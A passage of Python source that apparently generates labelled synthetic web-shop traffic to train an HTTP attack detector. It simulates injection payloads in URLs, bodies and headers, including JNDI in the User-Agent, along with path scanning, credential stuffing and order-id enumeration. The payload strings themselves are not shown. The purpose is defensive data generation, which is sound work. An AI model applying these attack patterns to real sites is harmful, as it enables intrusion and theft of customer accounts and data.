            return "GET", f"/blog/2026/{self.pick(ADJECTIVES)}-{self.pick(NOUNS)}-guide", "", status
        if kind == "info":
            return "GET", str(self.pick(INFO_PAGES)), "", status
        if kind == "landing":
            page = str(self.pick(["/", "/sale", f"/products/{self.pick(CATEGORIES)}", "/blog/"]))
            return "GET", f"{page}?{self.campaign_query()}", "", status
        if kind == "file":
            return "GET", self.pick_weighted(FILES)[0], "", status
        if kind == "cart":
            body = f"product_id={self.rng.integers(1, 900)}&qty={self.rng.integers(1, 4)}&variant=std"
            return "POST", "/cart/add", body, status
        if kind == "login":  # some users mistype their password
            return "POST", "/account/login", self.login_body(), 401 if self.chance(0.25) else 302
        if kind == "checkout":
            body = (
                "name=Jane+Doe&address=12+Harbor+Road%2C+Apt+3&city=Portland&zip=97201"
                f"&card_last4={self.rng.integers(1000, 9999)}&shipping=standard"
            )
            return "POST", "/checkout", body, 302 if status == 200 else status
        if kind == "review":
            text = str(self.pick(REVIEWS))
            body = json.dumps(
                {"product_id": int(self.rng.integers(1, 900)), "rating": int(self.rng.integers(1, 6)), "text": text}
            )
            return "POST", "/api/v1/reviews", body, 201 if status == 200 else status
        return "GET", self.endpoint_target(kind), "", status

    def static_file(
        self, t: float, client: str, method: str, target: str, ua: str, referer: str, cached: float
    ) -> None:
        """One static file: a 304 when the client's cache holds it (``cached`` is the chance), a
        partial 206 for video, now and then a 404 for a file that went away."""
        ext = _extension(target)
        headers: list[tuple[str, str]] = []
        status = 200
        if ext == "mp4":
            status, headers = 206, [("Range", "bytes=0-")]
        elif self.chance(cached):
            status = 304
            headers = [("If-None-Match", f'W/"{self.rng.bytes(6).hex()}"')]
            if self.chance(0.5):
                headers.append(("If-Modified-Since", "Tue, 24 Feb 2026 09:12:44 GMT"))
        elif self.chance(0.01):
            status = 404
        size = 0 if status == 304 else (int(self.rng.lognormal(6.5, 0.3)) if status == 404 else self.static_size(ext))
        self.add(t, client, method, target, ua, status=status, size=size, referer=referer, headers=headers)

    def static_size(self, ext: str) -> int:
        mu, sigma = STATIC_SIZES.get(ext, (9.3, 0.6))
        return max(1, int(self.rng.lognormal(mu, sigma)))

    def browser_session(self, budget: int) -> int:
        staff = self.chance(0.05)
        client = self.ip(private=1.0 if staff else 0.05)
        ua = str(self.pick(BROWSERS))
        t = self.start_time(diurnal=0.9)
        error_rate = float(self.pick([0.01, 0.03, 0.03, 0.08, 0.2]))  # some users follow many dead links
        cached = float(self.pick([0.0, 0.2, 0.4, 0.6]))  # a first visit, or a returning one
        n = 0
        referer = str(self.pick(REFERERS))
        for page in range(int(self.rng.geometric(1 / 7))):
            if staff and self.chance(0.5):
                method, body, status = "GET", "", self.status(error_rate)
                target = f"/admin/{self.pick(['orders', 'stock', 'reports', 'users'])}?page={self.rng.integers(1, 9)}"
            elif page == 0 and referer and self.chance(0.3):  # from a search or a campaign
                method, body, status = "GET", "", self.status(error_rate)
                target = str(self.pick(["/", "/sale", f"/products/{self.pick(CATEGORIES)}"]))
                target += f"?{self.campaign_query()}"
            else:
                method, target, body, status = self.normal_page(error_rate)
            if method == "POST" and target.startswith("/api/") and self.chance(0.3):  # a CORS preflight
                self.add(t - 0.05, client, "OPTIONS", target, ua, status=204, size=0, referer=referer)
                n += 1
            if method == "GET" and status == 200 and self.chance(0.05):  # a revisit the browser had cached
                status = 304
            self.add(t, client, method, target, ua, body=body, status=status, referer=referer,
                     size=0 if status == 304 else self.page_size())  # fmt: skip
            n += 1
            page_url = f"https://{HOST}{target.split('?')[0]}"
            if method == "GET" and _extension(target) == "none" and status < 400:
                k = int(self.rng.integers(3, 11)) if page == 0 else int(self.rng.integers(0, 4))
                for asset in self.pick_weighted(ASSETS, k):
                    ext = _extension(asset)
                    from_css = ext in FONT_TYPES or (ext == "svg" and self.chance(0.3))
                    css = f"https://{HOST}/assets/{self.pick(BUILDS)}/main.css" if from_css else page_url
                    self.static_file(t + float(self.rng.uniform(0.05, 1.5)), client, "GET", asset, ua, css, cached)
                    n += 1
                cached = max(cached, 0.5)  # later pages find the shared files in the cache
            referer = f"https://{HOST}{target}"
            t += float(self.rng.lognormal(2.8, 1.0))
            if n >= budget:
                break
        return n

    def crawler(self, budget: int) -> int:
        client, ua = self.ip(), str(self.pick(CRAWLERS))
        images_only = ua.startswith("Googlebot-Image")
        t = self.start_time(diurnal=0.0)
        n = int(min(budget, self.rng.integers(20, 120)))
        for i in range(n):
            if i == 0:
                target = "/robots.txt"
            elif i == 1 and not images_only:
                target = str(self.pick(["/sitemap.xml", "/sitemap.xml", "/sitemap-products.xml", "/blog/feed.xml"]))
            elif images_only or self.chance(0.12):
                target = self.pick_weighted(ASSETS if self.chance(0.5) else FILES)[0]
            else:
                _, target, body, _ = self.normal_page()
                if body:
                    target = f"/products/{self.pick(CATEGORIES)}"
            method = "HEAD" if self.chance(0.04) else "GET"
            status = 404 if self.chance(0.06) else (301 if self.chance(0.04) else (304 if self.chance(0.08) else 200))
            ext = _extension(target)
            size = 0 if status == 304 else (self.static_size(ext) if ext in STATIC_SIZES else self.page_size())
            self.add(t, client, method, target, ua, status=status, size=size)
            t += float(self.rng.uniform(1.0, 12.0))
        return n

    def previewer(self, budget: int) -> int:
        """A link preview: a shared page, then its share image and sometimes the icon."""
        client, ua = self.ip(), str(self.pick(PREVIEWERS))
        t = self.start_time(diurnal=0.8)
        _, page, body, _ = self.normal_page()
        if body:
            page = f"/products/{self.pick(CATEGORIES)}/{self.pick(self.products)}.html"
        targets = [page, str(self.pick(["/img/og/{noun}-{n}.png", "/images/products/{product}-{n}.jpg"]))]
        if self.chance(0.4):
            targets.append(str(self.pick(["/favicon.ico", "/apple-touch-icon.png"])))
        n = min(budget, len(targets))
        for target in targets[:n]:
            target = self.fill(target)
            ext = _extension(target)
            size = self.static_size(ext) if ext in STATIC_SIZES else self.page_size()
            self.add(t, client, "GET", target, ua, size=size)
            t += float(self.rng.uniform(0.1, 2.0))
        return n

    def feed_reader(self, budget: int) -> int:
        client, ua = self.ip(), str(self.pick(FEED_READERS))
        t = self.start_time(diurnal=0.0)
        feed = str(self.pick(["/feed.xml", "/blog/feed.xml", "/blog/feed.xml?format=atom"]))
        n = int(min(budget, self.rng.integers(3, 30)))
        for _ in range(n):
            status = 304 if self.chance(0.6) else 200
            size = 0 if status == 304 else self.static_size("xml")
            self.add(t, client, "GET", feed, ua, status=status, size=size)
            t += float(self.rng.uniform(900.0, 3600.0))
        return n

    def monitor(self, budget: int) -> int:
        client, ua = self.ip(private=0.5), str(self.pick(MONITORS))
        t = self.start_time(diurnal=0.0)
        n = int(min(budget, self.rng.integers(20, 80)))
        path = str(self.pick(MONITOR_PATHS))
        method = "HEAD" if self.chance(0.4) else "GET"
        every = float(self.pick([30.0, 60.0, 60.0, 300.0]))
        for _ in range(n):
            self.add(t, client, method, path, ua, size=int(self.rng.integers(2, 400)))
            t += every + float(self.rng.normal(0, 0.5))
        return n

    def api_client(self, budget: int) -> int:
        client, ua = self.ip(private=0.2), str(self.pick(API_CLIENTS))
        t = self.start_time(diurnal=0.7)
        n = int(min(budget, self.rng.integers(3, 40)))
        for _ in range(n):
            r = self.rng.random()
            if r < 0.55:
                target = self.endpoint_target(str(self.pick(["api_products", "api_products", "track", "stores"])))
                self.add(t, client, "GET", target, ua, status=self.status(0.03), size=int(self.rng.lognormal(8, 0.8)))
            elif r < 0.62:
                target = str(self.pick(["/static/data/stores.json", "/manifest.json", "/static/i18n/en.json"]))
                self.add(t, client, "GET", target, ua, size=self.static_size("json"))
            elif r < 0.65:
                self.add(t, client, "OPTIONS", "/api/v1/cart", ua, status=204, size=0)
            elif r < 0.8:
                item = {"product_id": int(self.rng.integers(1, 900)), "qty": int(self.rng.integers(1, 4))}
                body = json.dumps({"items": [item], "coupon": None})
                self.add(t, client, "POST", "/api/v1/cart", ua, body=body, status=201)
            else:
                method, target, body, status = self.normal_page()
                self.add(t, client, method, target, ua, body=body, status=status)
            t += float(self.rng.lognormal(1.0, 1.0))
        return n

    # --------------------------------------------------------------- attackers
    def payload(self, family: str) -> str:
        hard = self.chance(0.25)
        choices = [p for p, matched in PAYLOADS[family] if matched != hard]
        return str(self.pick(choices))

    def attacker_agent(self, family: str) -> tuple[str, bool]:
        """(User-Agent, is a tool): tools announce themselves, the others pass for browsers or scripts."""
        if family in ATTACK_TOOLS and self.chance(0.2):
            return ATTACK_TOOLS[family], True
        return str(self.pick(BROWSERS if self.chance(0.6) else SCRIPTS)), False

    def injector(self, family: str, budget: int) -> int:
        """Payloads in query parameters (JNDI also in headers), with some plain browsing in between."""
        client = self.ip(private=0.03)
        ua, tool = self.attacker_agent(family)
        t = self.start_time(diurnal=0.5)
        n = int(min(budget, self.rng.integers(2, 40 if tool else 12)))
        referer = f"https://{HOST}/" if ua in BROWSERS else ""
        made = 0
        while made < n:
            if not tool and self.chance(0.25):  # a plain page view by the same client: label 0
                method, target, body, status = self.normal_page()
                self.add(t, client, method, target, ua, body=body, status=status, referer=referer)
            else:
                endpoint, param = TARGETS[family][int(self.rng.integers(len(TARGETS[family])))]
                payload = self.payload(family)
                headers: list[tuple[str, str]] = []
                request_ua = ua
                if family == "jndi" and self.chance(0.6):  # in a header instead of the URL
                    if self.chance(0.6):
                        request_ua = payload
                    else:
                        headers.append(("X-Api-Version", payload))
                    target = self.endpoint_target(endpoint)
                else:
                    target = self.endpoint_target(endpoint, param, self.encode(payload))
                status = int(self.pick([200] * 6 + [500, 403, 400]))
                self.add(
                    t, client, "GET", target, request_ua, headers=headers, status=status, referer=referer, label=1,
                    family=family,
                )  # fmt: skip
            made += 1
            t += float(self.rng.lognormal(0.5, 1.0) if tool else self.rng.lognormal(3.0, 1.0))
        return made

    def body_attack(self, budget: int) -> int:
        """Payloads only in POST bodies, to endpoints that take normal bodies too."""
        client, ua = self.ip(), str(self.pick(BROWSERS + BROWSERS + SCRIPTS))
        t = self.start_time(diurnal=0.5)
        n = int(min(budget, self.rng.integers(1, 8)))
        for _ in range(n):
            family = str(self.pick(["sqli", "sqli", "xss", "cmdi", "jndi"]))
            payload = self.payload(family)
            kind = self.rng.random()
            if kind < 0.4:
                target, status = "/account/login", int(self.pick([302, 401, 401, 500]))
                password = quote_plus(self.rng.bytes(6).hex() + "!")
                body = f"email={quote_plus(payload)}&password={password}&remember=on"
            elif kind < 0.7:
                target, status = "/api/v1/reviews", int(self.pick([201, 201, 400, 500]))
                body = json.dumps({"product_id": int(self.rng.integers(1, 900)), "rating": 5, "text": payload})
            else:
                target, status = "/cart/add", int(self.pick([200, 200, 500]))
                body = f"product_id={quote_plus(payload)}&qty={self.rng.integers(1, 4)}&variant=std"
            self.add(t, client, "POST", target, ua, body=body, status=status, label=1, family="body_" + family)
            t += float(self.rng.lognormal(3.0, 1.0))
        return n

    def scanner(self, budget: int) -> int:
        client = self.ip()
        ua = str(self.pick(SCANNER_TOOLS)) if self.chance(0.5) else str(self.pick(BROWSERS + SCRIPTS))
        t = self.start_time(diurnal=0.3)
        n = int(min(budget, self.rng.integers(15, 150)))
        for _ in range(n):
            if self.chance(0.7):
                target = str(self.pick(PROBES))
            else:  # guesses that look like the site's own pages
                folder = self.pick(["admin", "account", "api/v2", "products", "old", "staging"])
                target = f"/{folder}/{self.pick(NOUNS)}"
            status = int(self.pick([404] * 7 + [403, 200, 301]))
            method = str(self.pick(["GET"] * 8 + ["HEAD", "POST"]))
            size = int(self.rng.lognormal(6, 0.7))
            self.add(t, client, method, target, ua, status=status, size=size, label=1, family="scanner")
            t += float(self.rng.lognormal(-1.0, 0.8))
        return n

    def stuffing(self, budget: int) -> int:
        """Credential stuffing: logins like everyone's, told apart only by their rate and failures."""
        client, ua = self.ip(), str(self.pick(BROWSERS + BROWSERS + SCRIPTS))
        t = self.start_time(diurnal=0.5)
        n = int(min(budget, self.rng.integers(10, 80)))
        for _ in range(n):
            status = 401 if self.chance(0.9) else 302
            self.add(t, client, "POST", "/account/login", ua, body=self.login_body(), status=status, label=1,
                     family="stuffing")  # fmt: skip
            t += float(self.rng.lognormal(0.8, 0.8))
        return n

    def enumeration(self, budget: int) -> int:
        """Slow enumeration of other customers' orders by id: every request looks like a normal one."""
        client, ua = self.ip(private=0.05), str(self.pick(BROWSERS))
        t = self.start_time(diurnal=0.9)
        first = int(self.rng.integers(10000, 90000))
        n = int(min(budget, self.rng.integers(3, 25)))
        for i in range(n):
            status = 200 if self.chance(0.75) else 403
            target = f"/account/orders?id={first + i}"
            self.add(t, client, "GET", target, ua, status=status, referer=f"https://{HOST}/account/orders?page=1",
                     label=1, family="enumeration")  # fmt: skip
            t += float(self.rng.lognormal(3.5, 0.8))
        return n

    def generate(self, n_requests: int) -> list[_Request]:
        n_attack = int(round(ATTACK_SHARE * n_requests))
        budgets = {"normal": n_requests - n_attack, "attack": n_attack}
        makers = {
            "browser": self.browser_session,
            "crawler": self.crawler,
            "monitor": self.monitor,
            "api": self.api_client,
            "preview": self.previewer,
            "feed": self.feed_reader,
            "scanner": self.scanner,
            "body": self.body_attack,
            "stuffing": self.stuffing,
            "enumeration": self.enumeration,
        }
        # weights by requests, not by clients: divide by each kind's typical requests per client
        per_client = {
            "browser": 20, "crawler": 70, "preview": 3, "feed": 16, "monitor": 50, "api": 20, "scanner": 80, "body": 4,
            "stuffing": 45,
        }  # fmt: skip
        for side, mix in (("normal", NORMAL_MIX), ("attack", ATTACK_MIX)):
            kinds = list(mix)
            weights = np.array([mix[k] / per_client.get(k, 10) for k in kinds])
            weights = weights / weights.sum()
            left = budgets[side]
            while left > 0:
                kind = kinds[int(self.rng.choice(len(kinds), p=weights))]
                before = len(self.requests)
                made = makers[kind](left) if kind in makers else self.injector(kind, left)
                if made > left:  # a browser session adds its assets after the budget check
                    del self.requests[before + left :]
                    made = left
                left -= made
        return self.requests


def generate_requests(n_requests: int = 20000, seed: int = 42) -> pd.DataFrame:
    """One row per generated request, in time order: client, time, method, target, headers, body,
    response and ground truth (``label``, ``family``)."""
    if n_requests < 1:
        raise ValueError("n_requests must be at least 1")
    reqs = _Generator(seed).generate(n_requests)
    frame = pd.DataFrame([r.__dict__ for r in reqs])
    frame["t"] = START.timestamp() + frame["t"]
    return frame.sort_values("t", kind="stable").reset_index(drop=True)


def to_raw_dump(requests: pd.DataFrame, seed: int = 0) -> str:
    """CSIC-style raw dump: absolute-form request line, headers, blank line, body; requests
    separated by a blank line. Some requests use CRLF line endings, the others LF."""
    rng = np.random.default_rng(seed)
    crlf = rng.random(len(requests)) < 0.3
    chunks = []
    for row, use_crlf in zip(requests.itertuples(index=False), crlf, strict=True):
        lines = [f"{row.method} http://{HOST}{row.target} HTTP/1.1"]
        if row.ua:
            lines.append(f"User-Agent: {row.ua}")
        lines.append(f"Host: {HOST}")
        if row.ua.startswith("Mozilla/5.0 ("):  # browsers send more headers than scripts and tools
            lines += [
                f"Accept: {_accept(_extension(row.target))}",
                "Accept-Language: en-US,en;q=0.5",
                "Accept-Encoding: gzip, deflate",
            ]
        else:
            lines.append("Accept: */*")
        if row.referer:
            lines += [f"Referer: {row.referer}", f"Cookie: session={zlib.crc32(row.client.encode()):08x}"]
        lines += [f"{name}: {value}" for name, value in row.headers]
        body = row.body.encode("utf-8")
        if body:
            lines += [f"Content-Type: {row.content_type}", f"Content-Length: {len(body)}"]
        lines += ["Connection: close", "", row.body, ""]
        eol = "\r\n" if use_crlf else "\n"
        chunks.append(eol.join(lines))
    return "\n".join(chunks)


def _accept(ext: str) -> str:
    """A browser's Accept header for a file of this extension."""
    if ext in IMAGE_TYPES:
        return "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"
    if ext == "css":
        return "text/css,*/*;q=0.1"
    if ext in STATIC_SIZES:
        return "*/*"
    return "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"


def _log_quote(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") if value else "-"


def to_access_log(requests: pd.DataFrame, fmt: str = "combined") -> str:
    """Apache/nginx ``common`` or ``combined`` log lines, local time at :data:`UTC_OFFSET`."""
    if fmt not in ("common", "combined"):
        raise ValueError(f"unknown log format {fmt!r}")
    local = pd.to_datetime(requests["t"], unit="s") + pd.Timedelta(hours=int(UTC_OFFSET[:3]))
    stamps = local.dt.strftime("%d/%b/%Y:%H:%M:%S").tolist()
    lines = []
    for row, stamp in zip(requests.itertuples(index=False), stamps, strict=True):
        request = _log_quote(f"{row.method} {row.target} HTTP/1.1")
        line = f'{row.client} - - [{stamp} {UTC_OFFSET}] "{request}" {row.status} {row.size}'
        if fmt == "combined":
            line += f' "{_log_quote(row.referer)}" "{_log_quote(row.ua)}"'
        lines.append(line)
    return "\n".join(lines) + "\n"


def generate_traffic_text(n_requests: int = 20000, seed: int = 42, raw_share: float = 0.5) -> dict[str, object]:
    """The generated traffic as text: ``raw`` (a raw dump) and ``log`` (a combined access log),
    each client's requests wholly in one of them, with the ground truth of each part in file order
    (``raw_requests``, ``log_requests``)."""
    requests = generate_requests(n_requests, seed)
    clients = requests["client"].unique()
    rng = np.random.default_rng(seed + 1)
    raw_clients = set(clients[rng.random(len(clients)) < raw_share])
    is_raw = requests["client"].isin(raw_clients).to_numpy()
    raw_part = requests[is_raw].reset_index(drop=True)
    log_part = requests[~is_raw].reset_index(drop=True)
    return {
        "raw": to_raw_dump(raw_part, seed) if len(raw_part) else "",
        "log": to_access_log(log_part) if len(log_part) else "",
        "raw_requests": raw_part,
        "log_requests": log_part,
    }


def generate_default_traffic(
    n_requests: int = 20000, seed: int = 42, raw_share: float = 0.5, with_family: bool = False
) -> pd.DataFrame:
    """The default data set: generated traffic as raw text, featurized by the same extractor users run
    on their files, plus ``label`` (0 normal, 1 attack) and, when asked, ``family``."""
    from threat_ensemble.http.features import featurize_text

    text = generate_traffic_text(n_requests, seed, raw_share)
    frames = []
    for part, fmt, truth in (("raw", "raw", "raw_requests"), ("log", "combined", "log_requests")):
        requests: pd.DataFrame = text[truth]  # type: ignore[assignment]
        if len(requests) == 0:
            continue
        features = featurize_text(str(text[part]), fmt, source=f"generated {part} traffic")
        if len(features) != len(requests):  # pragma: no cover - the generator writes only good requests
            raise AssertionError(f"{part}: {len(features)} feature rows for {len(requests)} requests")
        features["label"] = requests["label"].to_numpy()
        if with_family:
            features["family"] = requests["family"].to_numpy()
        frames.append(features)
    return pd.concat(frames, ignore_index=True)


def write_traffic_files(folder: str | Path, n_requests: int = 20000, seed: int = 42) -> dict[str, Path]:
    """Write the generated traffic as files a user would have, split by ground truth: ``normal.txt``
    and ``attack.txt`` (raw dumps), ``normal.log`` and ``attack.log`` (combined access logs)."""
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    text = generate_traffic_text(n_requests, seed)
    written = {}
    for truth, render, suffix in (
        ("raw_requests", lambda r: to_raw_dump(r, seed), "txt"),
        ("log_requests", to_access_log, "log"),
    ):
        requests: pd.DataFrame = text[truth]  # type: ignore[assignment]
        for name, label in (("normal", 0), ("attack", 1)):
            part = requests[requests["label"] == label].reset_index(drop=True)
            path = out / f"{name}.{suffix}"
            path.write_text(render(part) if len(part) else "", encoding="utf-8")
            written[path.name] = path
    return written


def main(argv: list[str] | None = None) -> int:
    """Write the example traffic files to a folder, or the package's default data set."""
    import argparse

    from threat_ensemble.data.default_data import DEFAULT_DATA_FILE, DEFAULT_ROWS

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("folder", nargs="?", help="write normal/attack raw dumps and access logs here")
    parser.add_argument("--requests", type=int, default=DEFAULT_ROWS, help=f"requests in all (default {DEFAULT_ROWS})")
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--write-default", action="store_true", help=f"write {DEFAULT_DATA_FILE.name} into the package")
    args = parser.parse_args(argv)
    if args.write_default:
        frame = generate_default_traffic(DEFAULT_ROWS, seed=42)
        frame.to_parquet(DEFAULT_DATA_FILE, compression="zstd", index=False)
        print(f"{DEFAULT_DATA_FILE}  {len(frame)} rows, {DEFAULT_DATA_FILE.stat().st_size / 1e3:.0f} kB")
    if args.folder:
        for path in write_traffic_files(args.folder, args.requests, args.seed).values():
            print(f"{path}  {path.stat().st_size / 1e6:.1f} MB")
    if not (args.write_default or args.folder):
        parser.error("give a folder, --write-default, or both")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
